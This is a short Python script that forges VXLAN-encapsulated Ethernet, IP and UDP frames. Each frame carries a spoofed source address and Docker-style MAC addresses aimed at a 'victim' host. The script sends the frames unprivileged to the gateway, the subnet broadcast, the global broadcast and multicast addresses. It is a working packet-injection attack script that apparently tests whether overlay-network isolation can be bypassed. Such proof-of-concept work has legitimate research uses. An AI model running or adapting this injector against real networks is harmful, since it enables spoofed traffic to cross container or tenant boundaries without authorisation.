# Sends a datagram in an Ethernet frame in VXLAN, in each way to the machine that there is.
# No privilege is needed for that.
import socket
import struct
import sys

vni, source, victim, text, *others = sys.argv[1:]


def gateway():
    for line in open("/proc/net/route"):
        fields = line.split()
        if fields[1] == "00000000" and fields[2] != "00000000":
            return socket.inet_ntoa(struct.pack("<L", int(fields[2], 16)))
    return None


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def mac(address):
    return b"\x02\x42" + socket.inet_aton(address)


def frame(text):
    data = text.encode()
    udp = struct.pack("!HHHH", 40000, 9999, 8 + len(data), 0) + data
    addresses = socket.inet_aton(source) + socket.inet_aton(victim)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0) + addresses
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    vxlan = struct.pack("!II", 0x08000000, int(vni) << 8)
    return vxlan + mac(victim) + mac(source) + b"\x08\x00" + head + udp


ways = {address: address for address in others}
if gateway():
    ways["gateway"] = gateway()
    ways["subnet"] = gateway().rsplit(".", 2)[0] + ".255.255"
    ways["broadcast"] = "255.255.255.255"
    ways["multicast"] = "224.0.0.1"
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
sender.bind(("", 4789))
for name, address in ways.items():
    for _ in range(3):
        try:
            sender.sendto(frame(text + " " + name), (address, 4789))
        except OSError as error:
            print(name, error)
